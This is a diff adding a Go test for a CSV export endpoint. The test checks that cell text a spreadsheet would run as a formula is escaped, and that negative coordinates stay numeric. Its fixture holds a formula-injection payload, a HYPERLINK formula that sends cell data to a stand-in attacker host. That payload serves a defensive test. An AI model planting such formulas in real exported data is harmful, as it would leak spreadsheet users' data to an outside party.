@@ -69,3 +69,33 @@ func TestExport(t *testing.T) {
 		t.Errorf("export with a bad bbox: %d", rec.Code)
 	}
 }
+
+// TestExportCSVNeutralisesFormulas: the HTTP CSV download escapes text a
+// spreadsheet would run as a formula, and keeps negative coordinates numeric.
+func TestExportCSVNeutralisesFormulas(t *testing.T) {
+	evs := genEvents(3, 12)
+	evs[0].PlaceName, evs[0].Lon, evs[0].Lat = `=HYPERLINK("http://evil.example/?"&A1,"x")`, -179.5, -17.25
+	s := newTestServer(t, Config{}, openStore(t, evs), nil)
+	rec := do(t, s.Handler(), http.MethodGet, "/api/export.csv", nil)
+	rows, err := csv.NewReader(rec.Body).ReadAll()
+	if rec.Code != http.StatusOK || err != nil || len(rows) != len(evs)+1 {
+		t.Fatalf("csv export: %d, %d rows, %v", rec.Code, len(rows), err)
+	}
+	col := map[string]int{}
+	for i, h := range rows[0] {
+		col[h] = i
+	}
+	found := false
+	for _, r := range rows[1:] {
+		if r[col["id"]] != evs[0].ID {
+			continue
+		}
+		found = true
+		if r[col["place_name"]] != "'"+evs[0].PlaceName || r[col["lon"]] != "-179.5" || r[col["lat"]] != "-17.25" {
+			t.Errorf("row = place_name %q lon %q lat %q", r[col["place_name"]], r[col["lon"]], r[col["lat"]])
+		}
+	}
+	if !found {
+		t.Errorf("event %s missing from the export", evs[0].ID)
+	}
+}
